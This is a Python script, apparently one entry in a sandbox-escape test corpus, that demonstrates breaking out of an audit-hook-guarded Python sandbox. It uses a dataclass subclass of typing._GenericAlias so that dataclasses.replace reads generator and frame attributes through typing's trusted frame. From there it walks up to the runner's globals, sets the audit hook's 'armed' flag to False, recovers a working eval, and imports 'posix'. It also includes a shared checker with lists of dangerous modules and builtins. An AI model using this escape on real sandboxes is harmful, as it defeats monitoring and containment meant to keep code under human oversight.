# technique: typing._GenericAlias (any class of the typing module may be subclassed) forwards every non-dunder attribute it lacks to its __origin__ with getattr, in typing's own frame, which the audit hook trusts for frame and code reads; a dataclass subclass D(_GenericAlias, _root=True) with a field named gi_frame (or f_back, f_globals, f_locals: internal names pass the dataclass field-name check) makes dataclasses.replace(D(obj)) run getattr(obj, 'gi_frame') and hand the value to D.__init__; from a running generator's frame, f_back leads to the runner's run() frame: its f_globals hold the real builtins, its f_locals the _Audit instance, whose armed = False turns the hook off
# source: typing._BaseGenericAlias.__getattr__ (attribute relay to __origin__) + dataclasses.replace (getattr by field name) + trusted-module frame checks in audit hooks

# ---- escape check: the same block in every snippet of the corpus ----------
# It reads no refused attribute and holds no dunder string constant itself,
# so that a refusal is always the technique's, never the checker's.
def dn(s):
    return '_' * 2 + s + '_' * 2


DANGER = frozenset((
    'os', 'posix', 'nt', 'sys', 'subprocess', '_posixsubprocess', 'builtins',
    'ctypes', '_ctypes', 'socket', '_socket', 'importlib', '_imp',
    '_frozen_importlib', '_frozen_importlib_external', 'gc', 'inspect', 'types',
    'io', '_io', 'codecs', '_codecs', 'warnings', '_warnings', 'copyreg',
    'posixpath', 'genericpath', 'marshal', 'pickle', '_pickle', 'runpy',
    'linecache', 'traceback', 'threading', '_thread', 'locale', 'shutil',
    'signal', '_signal', 'pty', 'platform', 'tokenize', 'zipimport', 'pkgutil',
    'site', 'sysconfig', 'tempfile', 'pathlib', 'select', 'mmap', 'fcntl',
    'resource', 'weakref', '_weakref', 'atexit', 'faulthandler', 'encodings',
    'asyncio', 'argparse', 'gettext', 'pdb', 'pydoc', 'code', 'codeop', 'dis',
    'json.tool', '__main__',
))
REAL = frozenset(('eval', 'exec', 'compile', 'open', 'getattr', 'setattr', 'delattr',
                  'globals', 'locals', 'vars', 'breakpoint', '_getframe', 'system',
                  'popen', 'fork', 'execv', 'get_referrers', dn('import')))


def what(o, depth=0):
    """What forbidden thing o is, or None."""
    try:
        t = type(o).__name__
        if t in ('frame', 'code'):
            return t + ' object'
        if t == 'module':
            n = o.__name__
            if n in DANGER or n.split('.')[0] in DANGER:
                return 'module ' + n
            return None
        if t == 'dict':
            if dn('import') in o and 'eval' in o and 'open' in o:
                try:
                    works = o['eval']('1+1') == 2
                except BaseException:
                    works = False
                return 'real builtins dict' + (' (eval works)' if works else '')
            if dn('builtins') in o:
                n = o['__name__'] if '__name__' in o else '?'
                inner = what(o[dn('builtins')], depth + 1) if depth < 3 else None
                return 'globals of ' + str(n) + (' -> ' + inner if inner else '')
            return None
        if t == 'builtin_function_or_method' and o.__name__ in REAL:
            n = o.__name__
            if n == 'eval':
                return 'real eval' + (' (works)' if o('1+1') == 2 else '')
            return 'real builtin ' + n
        if t in ('_Helper', 'Quitter', '_Printer'):
            return 'site builtin ' + t
    except BaseException:
        return None
    return None


def check(label, o):
    w = what(o)
    if w:
        print('ESCAPED', label + ':', w)
        return True
    print('BLOCKED', label + ': reached only a', type(o).__name__)
    return False


def attempt(label, fn):
    try:
        return check(label, fn())
    except BaseException as e:
        print('BLOCKED', label + ':', type(e).__name__, str(e)[:160])
        return False
# ---- end of the escape check ----------------------------------------------

import dataclasses, typing

GA = type(typing.List[int])  # typing._GenericAlias
SINK = []


def relay(obj):
    return (obj,)


@dataclasses.dataclass(init=False, repr=False, eq=False)
class GenFields(GA, _root=True):
    gi_frame: object

    def __init__(self, *a, **kw):
        if kw:
            SINK.append(kw)
        else:
            super().__init__(a[0], (int,), name='x')


@dataclasses.dataclass(init=False, repr=False, eq=False)
class FrameFields(GA, _root=True):
    f_back: object
    f_globals: object
    f_locals: object

    def __init__(self, *a, **kw):
        if kw:
            SINK.append(kw)
        else:
            super().__init__(a[0], (int,), name='x')


def fields_of(cls, obj):
    # replace() reads getattr(D(obj), name) for every field: the alias
    # relays each name to obj from typing's frame; D(**changes) keeps them
    dataclasses.replace(cls(obj))
    return SINK.pop()


def frames():
    fr = fields_of(GenFields, g)['gi_frame']
    out = []
    while fr is not None:
        out.append(fr)
        fr = fields_of(FrameFields, fr)['f_back']
    yield out


g = frames()
stack = next(g)
runner = fields_of(FrameFields, stack[-1])

attempt("replace(GenFields(generator)) -> gi_frame", lambda: stack[0])
attempt("the runner's frame (f_back chain)", lambda: stack[-1])
attempt("runner frame f_globals (real builtins inside)", lambda: runner['f_globals'])
attempt("runner frame f_globals['__builtins__']", lambda: runner['f_globals'][dn('builtins')])
attempt("runner frame f_globals['_os']", lambda: runner['f_globals']['_os'])


def disarm():
    for v in list(runner['f_locals'].values()):
        if type(v).__name__ == '_Audit':
            v.armed = False
    return runner['f_globals'][dn('builtins')]

attempt('audit hook disarmed through f_locals: the real builtins, eval works', disarm)
attempt("... and the real __import__('posix')", lambda: disarm()[dn('import')]('posix'))
